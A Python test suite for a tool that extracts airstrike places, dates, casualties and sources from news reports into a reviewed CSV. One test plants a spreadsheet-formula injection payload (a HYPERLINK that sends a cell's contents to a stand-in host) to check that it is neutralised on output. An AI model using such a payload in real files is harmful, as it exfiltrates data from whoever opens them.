"""geomap extract: places in one pass, strikes not context, honest dates, named sources."""

import csv
import datetime as dt
import io
import json

import pytest
from click.testing import CliRunner

from geomap.cli import main
from geomap.extract.propose import casualties_in, extract_candidates, sources_in, split_sentences
from geomap.extract.dates import find_dates, report_date
from geomap.extract.mentions import PlaceMatcher, folded_spelling, spelling_key

from conftest import DATA, SEEDS

PUBLISHED = {"001": dt.date(2021, 1, 13), "002": dt.date(2021, 2, 16)}


@pytest.fixture(scope="module")
def matcher(gazetteer):
    return PlaceMatcher(gazetteer)


def places(text, matcher, published=dt.date(2024, 11, 12)):
    return [c.place.id for c in extract_candidates(text, document="t.txt", matcher=matcher, published=published)]


def test_one_compiled_pattern_finds_every_spelling_whole(gazetteer, matcher):
    # Each spelling of three letters or more, written in a sentence, is found whole, as its place
    # (the first place to claim a spelling keeps it), and nothing else is found in the sentence.
    # Spellings are compared folded as the matcher folds them ("Deir Ezzor" is "Deir ez-Zor").
    owner = {}
    for place in gazetteer:
        for spelling in place.spellings:
            owner.setdefault(spelling_key(spelling), place.id)
    spellings = [s for p in gazetteer for s in p.spellings if len(spelling_key(s)) >= 3]
    assert len(spellings) > 1000
    for spelling in spellings:
        found = matcher.find(f"jets hit {spelling} at night")
        assert [(folded_spelling(m.text), m.place.id) for m in found] == [
            (folded_spelling(spelling), owner[spelling_key(spelling)])], spelling


def test_the_longest_spelling_wins(matcher):
    found = matcher.find("six depots were hit in the Al-Bokamal desert, and Al-Bokamal itself")
    assert [(m.place.id, m.text) for m in found] == [("bukamal-desert", "Al-Bokamal desert"),
                                                     ("bukamal", "Al-Bokamal")]


def test_mentions_keep_their_place_in_the_original_text(matcher):
    text = "Drones targeted a factory in Isfahan’s central city; Beka'a too, and Ḥoms."
    found = matcher.find(text)
    assert [text[m.start:m.end] for m in found] == ["Isfahan", "Beka'a", "Ḥoms"]


def test_marks_are_dropped_and_possessives_split_in_one_scan():
    from geomap.extract.mentions import _strip_marks

    assert _strip_marks("Isfahan’s Ma'arrat an-Nu'man, ’’s and it's_") == (
        "Isfahan s Maarrat an-Numan,  s and its_", [12, 23, 28, 37])  # as the two scans gave them


def test_folding_a_text_piece_by_piece_is_folding_it_whole():
    # The matcher folds ASCII stretches and the rest apart (CPython's fast path); the result must
    # be what one str.translate over the whole text gives.
    from geomap.extract.mentions import _CASED, _TABLE, _translate

    for text in ("", "plain ASCII only.", "Isfahan’s “central” city — Ḥoms, Beka'a",
                 "غارة على حمص، Homs\u00a0and ÉLAZIĞ", "’", "a’b’c"):
        for table in (_TABLE, _CASED):
            assert _translate(text, table) == text.translate(table), text


@pytest.mark.parametrize("sentence,expected", [
    ("The monitor, based in Homs, said Israeli jets struck Aleppo.", ["aleppo"]),
    ("Israel fired missiles from the direction of the occupied Golan and al-Jalil at Damascus.", ["damascus"]),
    ("In Baghdad, an official said a drone hit a convoy near Al-Bukamal.", ["bukamal"]),
    ("The planes hit a bridge near Qusayr, west of the provincial capital of Homs.", ["qusayr"]),
    ("Rockets were stored at the 4th Division headquarters on the Damascus-Beirut road, and were hit.",
     ["fourth-division-hq"]),
    ("Government forces captured Aleppo from rebels in 2016, after warplanes bombed the city.", []),
    ("Israel has carried out extensive air strikes in the Bekaa Valley since launching its offensive.", []),
    ("Qusayr is a transit point for Iranian cash.", []),
])
def test_only_places_a_sentence_reports_struck_become_candidates(matcher, sentence, expected):
    assert places(sentence, matcher) == expected


@pytest.mark.parametrize("text,published,date", [
    ("Drones attacked a convoy near Al-Bukamal on Sunday night.", dt.date(2023, 1, 30), ("2023-01-29", "day", "night")),
    ("Jets struck Homs early on Monday.", dt.date(2021, 3, 3), ("2021-03-01", "day", "early morning")),
    ("Jets struck Homs on 13 January.", dt.date(2021, 1, 20), ("2021-01-13", "day", "")),
    ("A strike hit Homs in November.", dt.date(2023, 1, 30), ("2022-11", "month", "")),
    ("Earlier in February, jets hit Homs.", dt.date(2021, 2, 16), ("2021-02", "month", "")),
    ("Jets hit Homs on Tuesday night. At 1:10 a.m., missiles struck Hama.", dt.date(2021, 1, 13),
     ("2021-01-13", "day", "01:10")),
])
def test_dates_resolve_against_the_publication_day(matcher, text, published, date):
    (first, *_) = extract_candidates(text, document="t.txt", matcher=matcher, published=published)
    assert (first.date.date, first.date.precision, first.date.time_local) == date


def test_no_date_is_invented(matcher):
    weekday_without_reference = extract_candidates("Jets struck Homs on Sunday.", document="t", matcher=matcher)
    relative = extract_candidates("date 2023-01-30 Drones hit Homs on Sunday. Hours after, drones hit Isfahan.",
                                  document="t", matcher=matcher)
    assert weekday_without_reference[0].date is None
    assert {c.place.id: c.date and c.date.date for c in relative} == {"homs": "2023-01-29", "isfahan": None}


def test_the_report_s_own_date_line_is_the_reference_and_not_a_strike_date(matcher):
    text = "date 2023-01-30 Drones hit a convoy near Al-Bukamal."
    assert report_date(text) == (dt.date(2023, 1, 30), len("date 2023-01-30"))
    (candidate,) = extract_candidates(text, document="t", matcher=matcher)
    assert candidate.date is None  # the line dates the report, not the strike
    assert [(d.text, d.fix.date) for d in find_dates("Sunday night", dt.date(2023, 1, 30))] == \
        [("Sunday night", "2023-01-29")]


def test_sources_are_named_once_under_one_name():
    text = ("The Syrian Observatory for Human Rights (SOHR) said, via the Associated Press and AP, "
            "what DeirEzzor24 and Al-Arabiya reported.")
    assert sources_in(text) == ["SOHR", "AP", "DeirEzzor24", "Al Arabiya"]


@pytest.mark.parametrize("text", [
    "The Syrian Observatory said the strike killed four.",
    "the Britain-based Observatory reported the strike",
    "the UK-based Observatory said",
])
def test_the_observatory_under_its_wire_copy_names_is_sohr(text: str):
    assert sources_in(text) == ["SOHR"]


def test_an_observatory_that_is_not_the_monitor_is_no_source():
    assert sources_in("Syrians watched from an old observatory on the hill.") == []


@pytest.mark.parametrize("text,figures", [
    ("Casualties are listed as 23 killed and 28 wounded.", (23, 28)),
    ("nine pro-Iranian militiamen were killed in Israeli airstrikes", (9, None)),
    ("It said at least 14 people, most of them militiamen, were killed in the strike.", (14, None)),
    ("There were no immediate reports of casualties.", (None, None)),
    ("NINE were KILLED and Three Wounded, a “source” said.", (9, 3)),
    ("Two civilians were killed.", (2, None)),
    ("Seven people were injured.", (None, 7)),
    # Letters that lowering moves or keeps ("İ", "ı") are matched by the IGNORECASE patterns.
    ("Four were kılled and İSTANBUL sent aid; five were wounded.", (4, 5)),
])
def test_casualty_figures(text, figures):
    assert casualties_in(text) == figures


def test_lower_case_scans_only_where_they_find_what_ignorecase_finds():
    from geomap.extract.gate import case_safe_lower

    assert case_safe_lower("Jets HIT “Homs”") == "jets hit “homs”"
    assert case_safe_lower("Kılled") is None and case_safe_lower("ſtrikes") is None
    assert case_safe_lower("İdlib") is None  # "i̇dlib": one letter more


def test_sentences_survive_abbreviations():
    text = "A U.S. official said so. At 1:10 a.m., jets struck. “It burnt,” he said."
    assert [s.text for s in split_sentences(text)] == ["A U.S. official said so.", "At 1:10 a.m., jets struck.",
                                                      "“It burnt,” he said."]


# What the seeds report, by seed: place, date and precision as the text states them.
SEED_CANDIDATES = {
    "000": [("qusayr", None), ("lebanon-border-qusayr", None)],
    "001": [("bukamal", ("2021-01-13", "day")), ("deir-ez-zor", ("2021-01-13", "day")),
            ("bukamal-border-region", ("2021-01-13", "day")), ("bukamal-desert", ("2021-01-13", "day")),
            ("mayadin-desert", ("2021-01-13", "day"))],
    "002": [("damascus", None), ("kiswah", None), ("damascus-airport", None), ("fourth-division-hq", None),
            ("syria-iraq-border-deir-ez-zor", ("2021-02", "month"))],
    "003": [("bukamal-border-region", ("2023-01-29", "day")), ("isfahan", None),
            ("deir-ez-zor-province", ("2022-11", "month"))],
}


@pytest.mark.parametrize("seed", sorted(SEED_CANDIDATES))
def test_the_seeds_give_their_strikes(matcher, seed):
    (path,) = SEEDS.glob(f"{seed}_*.txt")
    found = extract_candidates(path.read_text(encoding="utf-8"), document=path.name, matcher=matcher,
                               published=PUBLISHED.get(seed))
    assert [(c.place.id, c.date and (c.date.date, c.date.precision)) for c in found] == SEED_CANDIDATES[seed]
    for candidate in found:
        assert all(s.text in path.read_text(encoding="utf-8") for s in candidate.sentences)


def run(*args):
    return CliRunner().invoke(main, list(args))


def test_extract_writes_strikes_columns_plus_confidence_and_evidence():
    result = run("extract", str(next(SEEDS.glob("003_*.txt"))))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    header = (DATA / "strikes.csv").read_text(encoding="utf-8").splitlines()[0].split(",")
    assert list(rows[0]) == header + ["confidence", "independent_sources", "evidence"]
    assert [(r["place"], r["date"], r["time_local"]) for r in rows][0] == ("Al-Bukamal border region", "2023-01-29", "night")
    assert result.stderr.strip() == "geomap: 3 candidates from 1 report; review them before merging"


def test_extract_json_lines():
    result = run("extract", "--json", "--published", "2021-02-16", str(next(SEEDS.glob("002_*.txt"))))
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert rows[1]["place"] == "Al Kiswah" and rows[1]["killed"] == "2" and rows[1]["casualty_source"] == "SOHR"
    assert rows[-1]["date"] == "2021-02" and rows[-1]["date_precision"] == "month"


def test_merge_appends_kept_rows_with_fresh_ids(tmp_path):
    strikes = tmp_path / "strikes.csv"
    strikes.write_bytes((DATA / "strikes.csv").read_bytes())
    candidates = run("extract", str(next(SEEDS.glob("003_*.txt")))).stdout
    rows = [r for r in csv.DictReader(io.StringIO(candidates)) if r["date"]]  # the person keeps the dated ones
    reviewed = tmp_path / "kept.csv"
    with reviewed.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = run("extract", "--merge", str(reviewed), "--strikes", str(strikes), "--gazetteer",
                 str(DATA / "gazetteer.csv"))
    assert result.exit_code == 0, result.output
    # The seed's Al-Bukamal strike is curated already (S010: same date, place and document).
    assert result.stderr.strip().splitlines() == [
        f"geomap: {reviewed}, row 2: already in {strikes} as S010 (same date, place and document); not added again",
        f"{strikes}: added 1 rows from {reviewed} (S013 to S013)",
    ]
    merged = list(csv.DictReader(strikes.open(encoding="utf-8")))
    assert [r["id"] for r in merged][-2:] == ["S012", "S013"]
    assert merged[-1]["place"] == "Deir ez-Zor Governorate" and merged[-1]["killed"] == "14"
    assert run("validate", "--strikes", str(strikes), "--gazetteer", str(DATA / "gazetteer.csv")).exit_code == 0
    before = strikes.read_bytes()
    again = run("extract", "--merge", str(reviewed), "--strikes", str(strikes), "--gazetteer",
                str(DATA / "gazetteer.csv"))
    assert again.exit_code == 0 and f"added 0 rows from {reviewed}" in again.stderr
    assert strikes.read_bytes() == before                      # a repeated merge adds nothing


def test_merge_refuses_an_unfinished_row_and_changes_nothing(tmp_path):
    strikes = tmp_path / "strikes.csv"
    strikes.write_bytes((DATA / "strikes.csv").read_bytes())
    reviewed = tmp_path / "candidates.csv"
    reviewed.write_text(run("extract", str(next(SEEDS.glob("003_*.txt")))).stdout, encoding="utf-8")
    result = run("extract", "--merge", str(reviewed), "--strikes", str(strikes))
    assert result.exit_code == 2
    assert f"{reviewed}, row 3, field 'date': is empty" in result.stderr
    assert strikes.read_bytes() == (DATA / "strikes.csv").read_bytes()


def test_evidence_cannot_run_as_a_spreadsheet_formula(tmp_path):
    report = tmp_path / "report.txt"
    report.write_text('=HYPERLINK("http://x.example/?"&A1) Jets struck Homs on Sunday.', encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(run("extract", str(report)).stdout)))
    assert rows[0]["evidence"].startswith("'=HYPERLINK")
    as_json = json.loads(run("extract", "--json", str(report)).stdout)
    assert as_json["evidence"].startswith("=HYPERLINK")  # JSON is data, kept as written


def test_extract_is_one_library_call_and_the_command_prints_it():
    """The command's JSON lines are geomap.api.extract_reports' rows."""
    import datetime

    from geomap.api import extract_reports

    files = sorted(SEEDS.glob("00[12]_*.txt"))
    rows = extract_reports(files, gazetteer_path=DATA / "gazetteer.csv", published=datetime.date(2021, 2, 16))
    result = CliRunner().invoke(main, ["extract", "--json", "--published", "2021-02-16",
                                       "--gazetteer", str(DATA / "gazetteer.csv"), *map(str, files)])
    assert result.exit_code == 0, result.output
    assert [json.loads(line) for line in result.stdout.splitlines()] == json.loads(json.dumps(rows))
    assert len(rows) >= 5


def test_a_report_saved_as_windows_1252_or_with_nul_bytes_is_read(tmp_path):
    from click.testing import CliRunner

    from geomap.cli import main

    latin = tmp_path / "latin.txt"
    latin.write_bytes("date 2021-01-13\nIsraeli jets struck Boukamal, hitting a café.\n".encode("cp1252"))
    nul = tmp_path / "nul.txt"
    nul.write_bytes(b"date 2021-01-13\nIsraeli jets struck Bou\x00kamal.\n")
    result = CliRunner().invoke(main, ["extract", str(latin), str(nul)])
    assert result.exit_code == 0, result.output
    assert "latin.txt is not UTF-8 (byte 0xe9" in result.stderr and "read as Windows-1252" in result.stderr
    rows = result.stdout.splitlines()[1:]
    assert len(rows) == 2 and all("Al-Bukamal" in row for row in rows)
    assert "café" in rows[0] and "\x00" not in result.stdout


def test_a_missing_report_is_an_error_naming_it(tmp_path):
    from click.testing import CliRunner

    from geomap.cli import main

    result = CliRunner().invoke(main, ["extract", str(tmp_path / "gone.txt")])
    assert result.exit_code == 2 and "Traceback" not in result.output
